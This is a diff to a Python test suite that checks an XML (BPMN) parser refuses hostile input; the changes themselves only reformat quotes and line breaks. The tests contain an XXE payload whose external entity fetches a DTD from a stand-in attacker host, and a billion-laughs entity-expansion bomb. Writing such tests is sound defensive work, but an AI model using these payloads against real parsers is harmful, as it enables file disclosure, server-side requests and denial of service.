@@ -45,7 +45,7 @@ def test_xxe_with_a_file_entity_is_refused_and_reads_nothing() -> None:
 def test_xxe_with_an_external_parameter_entity_on_the_network_is_refused() -> None:
     xml = (
         b'<?xml version="1.0"?>\n'
-        b'<!DOCTYPE definitions [\n'
+        b"<!DOCTYPE definitions [\n"
         b'  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">\n'
         b"  %remote;\n"
         b"]>\n"
@@ -69,7 +69,7 @@ def test_an_external_dtd_after_comments_and_instructions_is_refused() -> None:
 def test_billion_laughs_is_refused_fast_with_bounded_memory() -> None:
     entities = [b'<!ENTITY lol0 "lol">']
     entities += [
-        b"<!ENTITY lol%d \"%s\">" % (level, b"&lol%d;" % (level - 1) * 10) for level in range(1, 10)
+        b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10) for level in range(1, 10)
     ]
     xml = (
         b'<?xml version="1.0"?>\n<!DOCTYPE definitions [\n'
@@ -154,7 +154,9 @@ def test_truncated_xml_is_refused_with_lxml_line() -> None:
 
 
 def test_mismatched_tags_are_refused_with_line_and_column() -> None:
-    xml = b'<bpmn:definitions xmlns:bpmn="' + BPMN_NS.encode() + b'">\n  <a></b>\n</bpmn:definitions>'
+    xml = (
+        b'<bpmn:definitions xmlns:bpmn="' + BPMN_NS.encode() + b'">\n  <a></b>\n</bpmn:definitions>'
+    )
     problem = refused(xml)
     assert problem.message.startswith("the document is not well-formed XML: ")
     assert "mismatch" in problem.message
